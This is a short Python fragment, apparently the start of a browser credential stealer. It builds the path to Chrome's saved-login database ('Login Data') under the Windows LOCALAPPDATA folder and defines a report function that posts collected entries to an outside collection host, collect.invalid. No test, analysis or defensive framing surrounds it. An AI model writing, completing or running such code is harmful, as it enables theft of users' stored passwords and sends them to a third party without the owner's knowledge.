import os
import urllib.request

STORE = os.path.join(os.environ["LOCALAPPDATA"], "Google\\Chrome\\User Data\\Default\\Login Data")


def report(entries):
    urllib.request.urlopen("https://collect.invalid/", data=entries)
